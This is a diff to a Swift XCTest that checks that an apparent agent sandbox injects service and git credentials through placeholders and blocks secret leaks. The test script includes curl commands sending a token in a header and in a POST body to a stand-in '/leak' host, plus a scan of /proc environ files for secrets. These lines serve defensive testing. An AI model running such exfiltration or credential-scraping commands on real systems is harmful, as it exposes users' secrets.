@@ -75,15 +75,16 @@ final class BoxCredentialTests: XCTestCase {
         let image = try await RealAgentEnvironment.requireImage()
         let folder = try TemporaryDirectory.make("svc")
         FileSystem.setMode(folder, 0o755)
-        let service = try await GitHTTPSStandIn(folder: folder)
-        defer { service.stop() }
         let secret = "s3cret-\(UInt64.random(in: 0...UInt64.max))"
+        let service = try await GitHTTPSStandIn(folder: folder, secret: secret)
+        defer { service.stop() }
         let secretFile = try TemporaryDirectory.make("secret") + "/token"
         try FileSystem.writeNew(Array((secret + "\n").utf8), to: secretFile)
         let host = "service.test:\(service.port)", other = "other.test:\(service.port)"
         let script = """
         echo "== env"; echo "token=$SVC_TOKEN"
         echo "== use"; curl -sS -H "Authorization: Bearer $SVC_TOKEN" https://\(host)/me; echo " use exit=$?"
+        echo "== private clone"; git clone -q "https://x-access-token:$GIT_PASSWORD@\(host)/private/owner/repo.git" /tmp/priv 2>&1; echo "private clone exit=$?"; cat /tmp/priv/README
         echo "== leak header"; curl -sS -H "X-Leak: $SVC_TOKEN" https://\(other)/leak; echo " exit=$?"
         echo "== leak body"; curl -sS --data-binary "t=$SVC_TOKEN" https://\(other)/leak; echo " exit=$?"
         echo "== search"; P=$(printf 's3%s' 'cret-'); cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c 'burrow-placeholder-'
@@ -103,7 +104,9 @@ final class BoxCredentialTests: XCTestCase {
             config.network.rules = [other: ["GET /**", "POST /**"]]
             config.network.extraCAs = [service.caFile]
             config.credentials.services = [ServiceCredential(name: "svc", hosts: [host], header: "Authorization", format: "Bearer {secret}",
-                                                             source: .init(file: secretFile), placeholder: "SVC_TOKEN")]
+                                                             source: .init(file: secretFile), placeholder: "SVC_TOKEN"),
+                                           ServiceCredential(name: "git", hosts: [host], basic: .init(username: "x-access-token"),
+                                                             source: .init(file: secretFile), placeholder: "GIT_PASSWORD")]
             config.agentCommand = ["bash", "-c"]
             config.taskInput = .argument
         }
@@ -113,6 +116,8 @@ final class BoxCredentialTests: XCTestCase {
         XCTAssertTrue(output.contains("== end"), all)
         XCTAssertTrue(section("env").contains("token=burrow-placeholder-"), section("env"))
         XCTAssertTrue(section("use").contains("GET /me auth=yes") && section("use").contains("use exit=0"), section("use"))
+        XCTAssertTrue(section("private clone").contains("private clone exit=0") && section("private clone").contains("served over https"),
+                      "git with the placeholder as its password clones a repo that needs the secret: \(section("private clone"))")
         XCTAssertTrue(section("leak header").contains("exfiltration"), section("leak header"))
         XCTAssertTrue(section("leak body").contains("exfiltration"), section("leak body"))
         XCTAssertTrue(section("search").hasPrefix("1") || section("search").split(separator: "\n").first.map { Int($0) ?? 0 > 0 } == true,
